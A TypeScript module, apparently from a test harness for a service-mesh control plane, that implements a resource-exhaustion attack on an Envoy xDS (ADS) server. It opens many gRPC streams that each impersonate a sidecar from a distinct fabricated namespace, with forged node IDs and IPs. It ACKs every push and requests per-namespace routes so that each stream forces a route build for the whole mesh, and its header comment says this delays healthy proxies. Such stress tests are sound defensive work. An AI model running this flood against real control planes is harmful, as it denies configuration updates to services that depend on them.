/**
 * Envoy sidecars each in a namespace of its own, asking for every cluster and listener and for the outbound
 * routes, and ACKing what they get. Clusters and listeners are shared between namespaces the snapshot does not
 * single out; the routes are not (their virtual hosts carry the namespace's short names), so each stream costs
 * a route build of the whole mesh. What it costs is server CPU on behalf of one client: a healthy proxy's
 * pushes wait behind it.
 *
 * @module
 */
import * as grpc from "@grpc/grpc-js";
import { TYPE_URL } from "../../proto/type_urls.ts";
import { loadEnvoySchema } from "../../proto/envoy_schema.ts";
import { jsonToStruct } from "../../proto/struct_json.ts";
import { readResponseHead } from "../wire_reader.ts";
import { SERVICE_PORT } from "../mesh_fixture.ts";
import { adsClient } from "./ads_stream.ts";

/** Sizes of the attack. */
export interface ShapeFloodSizes {
  readonly connections: number;
  /** Streams per connection, each of its own shape. */
  readonly streams: number;
  /** Seconds to keep the streams open. */
  readonly holdS: number;
}

/** The outbound route of the mesh's one service port: its virtual hosts carry the namespace's short names. */
const ROUTES = [String(SERVICE_PORT)];

/** Runs the attack; resolves with what it sent and saw. */
export async function shapeFlood(grpcAddr: string, sizes: ShapeFloodSizes): Promise<Record<string, unknown>> {
  const type = loadEnvoySchema().lookupType("envoy.service.discovery.v3.DiscoveryRequest");
  const encode = (request: Record<string, unknown>) => type.encode(type.fromObject(request)).finish();
  let responses = 0;
  let bytes = 0;
  const ended: Record<string, number> = {};
  const clients: grpc.Client[] = [];
  const calls: grpc.ClientDuplexStream<Uint8Array, Uint8Array>[] = [];
  for (let c = 0; c < sizes.connections; c++) {
    const client = adsClient(grpcAddr);
    clients.push(client);
    for (let s = 0; s < sizes.streams; s++) {
      const i = c * sizes.streams + s;
      const namespace = `shape-${i}`;
      // deno-lint-ignore no-explicit-any
      const call = (client as any).StreamAggregatedResources() as grpc.ClientDuplexStream<
        Uint8Array,
        Uint8Array
      >;
      calls.push(call);
      call.on("data", (response: Uint8Array) => {
        responses++;
        bytes += response.length;
        const head = readResponseHead(response, false);
        call.write(
          encode({ type_url: head.typeUrl, version_info: head.version, response_nonce: head.nonce }),
        );
      });
      call.on("error", () => {});
      call.on("status", (status: grpc.StatusObject) => {
        const code = grpc.status[status.code];
        ended[code] = (ended[code] ?? 0) + 1;
      });
      const node = {
        id: `sidecar~10.252.${Math.floor(i / 250)}.${
          (i % 250) + 1
        }~app-${i}.${namespace}~${namespace}.svc.cluster.local`,
        metadata: jsonToStruct({ NAMESPACE: namespace, LABELS: { app: `app-${i}` } }),
      };
      call.write(encode({ node, type_url: TYPE_URL.cluster }));
      call.write(encode({ type_url: TYPE_URL.listener }));
      call.write(encode({ type_url: TYPE_URL.route, resource_names: ROUTES }));
    }
  }
  await new Promise((resolve) => setTimeout(resolve, sizes.holdS * 1000));
  for (const call of calls) call.cancel();
  for (const client of clients) client.close();
  return { responses, receivedMiB: Math.round(bytes / 1024 / 1024), ended };
}
